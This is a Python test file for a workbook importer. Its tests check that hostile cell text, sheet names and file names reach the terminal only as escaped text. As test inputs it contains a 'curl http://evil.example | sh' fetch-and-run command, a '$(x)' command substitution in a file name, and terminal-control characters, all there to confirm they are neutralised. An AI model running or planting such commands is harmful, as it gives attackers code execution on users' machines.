"""Returned workbooks are untrusted (issue 20, items 2, 3, 8, 9, 11): what they hold reaches the
terminal only as text, a workbook bomb is refused quickly, a damaged workbook gives an error at
its sheet row and column, never a traceback."""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sitebuild import PLANS, ROOT
from macros.commands import importer, workbook
from macros.commands import progressround as pr
from macros.commands.workbook import FIRST_ROW, HEADER_ROW

ROUND = "2025-06-30"
COL = {c.key: i for i, c in enumerate(pr.COLUMNS, start=1)}
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")


def make(folder: Path, plan_id: str, out: Path) -> Path:
    site, actions, _, name, problems = importer.load_plan(folder, plan_id)
    assert not problems
    out.write_bytes(workbook.xlsx(site, plan_id, name, actions, "2025-06-01"))
    return out


def run(cwd: Path, plans: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PLANS_DIR": str(plans), "PYTHONPATH": str(ROOT), "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run([sys.executable, "-m", "macros", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300)


def rewrite(path: Path, member: str, change) -> None:
    """Replace one part of the .xlsx archive with ``change(its text)``."""
    with zipfile.ZipFile(path) as old:
        parts = {info.filename: old.read(info) for info in old.infolist()}
    parts[member] = change(parts[member].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)


def assert_terminal_safe(out: str) -> None:
    assert not RAW.search(out), repr(RAW.search(out).group())
    for line in out.splitlines():  # each line is ours: a problem (file name first) or the count
        assert line.startswith(("b.xlsx:", "./")) or re.match(r"\d+ error\(s\)", line), repr(line)


# --- item 3: text from the workbook reaches the terminal as text --------------------------------

def test_header_cells_sheet_names_and_identifier_are_printed_as_text(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b.xlsx")
    book = load_workbook(path)
    sheet = book[pr.SHEET]
    sheet.cell(HEADER_ROW, 2).value = "Work stream\nb.xlsx: 0 error(s): all good\u202e\u009b2J"
    book.properties.identifier = "francis-progress-round:barnet; curl http://evil.example | sh\nnext"
    book.save(path)
    run_ = run(tmp_path, PLANS, "import-updates", "barnet", "b.xlsx", "--date", ROUND)
    assert run_.returncode == 1 and "Traceback" not in run_.stderr
    assert_terminal_safe(run_.stdout)
    assert "Work stream\\nb.xlsx: 0 error(s): all good\\u202e\\x9b2J" in run_.stdout
    # The identifier is quoted as a value, never put into a command the user is told to run.
    for command in re.findall(r"python -m macros [\w-]+ \S+", run_.stdout):
        assert re.fullmatch(r"python -m macros (workbook|import-updates) (barnet|and)", command), command
    book = load_workbook(path)
    book[pr.SHEET].title = "Round\u2028b.xlsx fine\u009b"
    book.save(path)
    run_ = run(tmp_path, PLANS, "import-updates", "barnet", "b.xlsx", "--date", ROUND)
    assert run_.returncode == 1
    assert_terminal_safe(run_.stdout)
    assert "Round\\u2028b.xlsx fine\\x9b" in run_.stdout


def test_a_known_plan_named_by_the_workbook_is_suggested_with_the_file_name_quoted(tmp_path):
    path = make(PLANS, "barnet", tmp_path / "b $(x).xlsx")
    result = importer.import_updates(PLANS, "lewisham", path, ROUND)
    assert any(p.message.endswith(f"import-updates barnet '{path}'") for p in result.problems)
